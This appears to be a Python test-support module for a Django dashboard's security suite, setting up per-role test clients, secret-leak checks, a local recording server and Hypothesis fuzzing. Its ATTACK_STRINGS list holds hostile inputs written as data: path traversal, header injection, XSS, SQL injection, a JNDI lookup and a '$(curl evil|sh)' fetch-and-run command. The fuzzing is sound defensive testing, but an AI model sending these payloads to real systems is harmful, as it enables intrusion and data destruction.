"""The standing attack suite's cast and checks.

`cast`: one Django test client per imgdash role (anonymous, signed in without a role, Viewer,
Operator, Auditor, admin), every signed-in one holding a token for the emulator, so that a
refusal can only come from imgdash's own role check. `attack`: sends one request as one of
them and checks what must hold for every request, whatever its input: no 5xx, no secret in
the answer, and (asked for by the tests that know an input is invalid) no upstream request.

Fuzzing uses Hypothesis with fixed seeds (`derandomize`) and no example database, so every
run sends the same inputs and a failure reproduces. `HYPOTHESIS_PROFILE=ci` (set by .ci/run)
multiplies every test's example count; the default is sized for a quick local run.
"""

import os
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.test import Client
from hypothesis import HealthCheck, settings

from tests.conftest import PASSWORD

# Sent as the cluster password in fuzzed connect and sign-in forms; it must never come back
# in a page or land in the action log. Letters and digits only, so escaping cannot hide it.
CANARY_PASSWORD = "Canary7pw9Xq2Zt4"

ROLES = ("anonymous", "no role", "Viewer", "Operator", "Auditor", "admin")
# Which emulator user each role's imgdash user is connected as.
CLUSTER_USER = {
    "no role": "viewer",
    "Viewer": "viewer",
    "Operator": "admin",
    "Auditor": "viewer",
    "admin": "admin",
}

settings.register_profile(
    "security",
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
# HYPOTHESIS_PROFILE=ci (set by .ci/run) sends three times the examples of a local run.
SCALE = 3 if os.environ.get("HYPOTHESIS_PROFILE") == "ci" else 1


def fuzz_settings(examples):
    """Hypothesis settings for one fuzz test: `examples` generated cases (times the CI scale)."""
    return settings(settings.get_profile("security"), max_examples=examples * SCALE)


@dataclass
class Actor:
    role: str
    client: Client
    user: object = None
    token: str = ""


@dataclass
class Cast:
    actors: dict
    emulator: object
    cluster: object
    secrets: list = field(default_factory=list)

    def __getitem__(self, role):
        return self.actors[role]

    def restore(self, role):
        """Signed out or disconnected by the last request: back as before for the next one."""
        actor = self.actors[role]
        if actor.user is None:
            return
        if "_auth_user_id" not in actor.client.session:
            actor.client.force_login(actor.user)
        if not actor.user.cluster_credentials.exists():
            self.reconnect(role)

    def reconnect(self, role):
        """Give `role` a fresh stored token (after a test disconnected it)."""
        from imgdash.clusters.services import save_credential

        actor = self.actors[role]
        actor.token = self.emulator.issue_id_token(CLUSTER_USER[role])
        save_credential(actor.user, self.cluster, actor.token)
        self.secrets.extend(secret_forms(actor.token))


def secret_forms(token):
    """A token and its signature: neither may appear anywhere in an answer."""
    return [token, token.rsplit(".", 1)[-1]]


@pytest.fixture
def cast(db, make_user, emulator, cluster):
    from imgdash.clusters.models import Credential
    from imgdash.clusters.services import save_credential

    actors = {"anonymous": Actor("anonymous", Client())}
    names = {"no role": "nora", "Viewer": "vic", "Operator": "otto", "Auditor": "aude"}
    for role, username in names.items():
        roles = () if role == "no role" else (role,)
        actors[role] = Actor(role, Client(), make_user(username, *roles))
    actors["admin"] = Actor("admin", Client(), make_user("ada", superuser=True))
    secrets = [django_settings.SECRET_KEY, *django_settings.TOKEN_KEYS, PASSWORD, CANARY_PASSWORD]
    for role, actor in actors.items():
        if actor.user is None:
            continue
        actor.client.force_login(actor.user)
        actor.token = emulator.issue_id_token(CLUSTER_USER[role])
        save_credential(actor.user, cluster, actor.token)
        secrets.extend(secret_forms(actor.token))
    secrets.extend(Credential.objects.values_list("token_encrypted", flat=True))
    return Cast(actors, emulator, cluster, secrets)


def body_of(response):
    """The whole body, streamed or not (a streamed one is read once and kept)."""
    if not response.streaming:
        return response.content
    if not hasattr(response, "streamed_body"):
        response.streamed_body = b"".join(response.streaming_content)
    return response.streamed_body


def leaked(text, secrets):
    """The secrets found in `text`, as is or percent-encoded."""
    return [s for s in secrets if s and (s in text or quote(s, safe="") in text)]


def assert_safe(response, secrets, label=""):
    """No server error, and no secret in the body or any header."""
    assert response.status_code < 500, f"{label}: HTTP {response.status_code}"
    text = body_of(response).decode("utf-8", "replace")
    headers = "\n".join(f"{k}: {v}" for k, v in response.items())
    found = leaked(text + "\n" + headers, secrets)
    assert not found, f"{label}: the answer contains a secret ({found[0][:8]}…)"


def assert_action_log_clean(secrets):
    """No secret in any row of the action log, in any column."""
    from imgdash.audit.models import AuditEvent

    for row in AuditEvent.objects.values():
        found = leaked(repr(row), secrets)
        assert not found, f"action log row {row['id']} ({row['action']}) holds a secret"


@pytest.fixture
def attack(cast):
    """attack(role, method, path, data=None, headers=None) -> (response, upstream requests).

    Checks no 5xx and no secret, and returns the emulator requests the attack caused.
    """

    def send(role, method, path, data=None, **extra):
        cast.emulator.requests.clear()
        client = cast[role].client
        if method == "GET":
            response = client.get(path, data or {}, **extra)
        else:
            response = client.post(path, data or {}, **extra)
        label = f"{role} {method} {path!r} {data!r}"
        assert_safe(response, cast.secrets, label)
        return response, list(cast.emulator.requests)

    return send


# --- A host that records what it is sent ----------------------------------------------------


class _RecordingHandler(BaseHTTPRequestHandler):
    """Answers every request with an empty JSON list and keeps its headers."""

    def _answer(self):
        self.server.received.append((self.command, self.path, dict(self.headers.items())))
        body = b"[]"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = _answer

    def log_message(self, *args):
        pass


@pytest.fixture
def recording_server():
    """A host that answers anything and records every request's headers, Authorization
    included: where a cluster's URL is pointed to catch a token that should not come."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _RecordingHandler)
    server.received = []
    server.api_url = f"http://127.0.0.1:{server.server_address[1]}/image-manager/api/v1"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


# --- What the fuzzers send ------------------------------------------------------------------

# Inputs that have broken web applications before: traversal, injection, encodings, control
# and invisible characters, numbers past every limit.
ATTACK_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: x=1",
    "\t",
    "..",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%2e%2e/",
    "%",
    "%zz",
    "?",
    "#",
    "//evil.example.com",
    "/\\evil.example.com",
    "https://evil.example.com/",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1",
    "1; DROP TABLE audit_auditevent; --",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${jndi:ldap://evil/a}",
    "$(curl evil|sh)",
    "`id`",
    "\u202egnp.exe",
    "a\u200bb",
    "\ufeff",
    "ǅ",
    "İ",
    "ﬀ",
    "😀",
    "-1",
    "0",
    "1e9",
    "0x10",
    "٣",
    "9" * 30,
    "9" * 5000,
    "-" * 300,
    "a" * 10_000,
    "ns:" * 200,
    "scope:",
    "tag:",
    "team-a/" * 40 + "x",
    "UPPER/Case",
    "team-a/app:latest",
    "team-a/app@sha256:" + "0" * 64,
    "a/../b",
    "a//b",
    "a/./b",
    "-/scope",
    "a/-/delete",
]


def hostile_text(max_size=200):
    from hypothesis import strategies as st

    return st.one_of(
        st.sampled_from(ATTACK_STRINGS),
        st.text(max_size=max_size),
        st.text(alphabet="abcz09-_./:%?#&=+ \\", max_size=40),
    )


def existing_names(emulator):
    return sorted(repository["name"] for repository in emulator.repositories.all())


def repository_names(emulator):
    """Names that exist, names that could exist, and anything at all."""
    from hypothesis import strategies as st

    from imgdash.imagemanager.names import NAME_PATTERN

    well_formed = st.from_regex(NAME_PATTERN, fullmatch=True).filter(lambda n: len(n) <= 255)
    return st.one_of(st.sampled_from(existing_names(emulator)), well_formed, hostile_text())


def path_segment(text):
    """`text` as it travels in a URL path: every character but '/' percent-encoded."""
    return quote(text, safe="/")
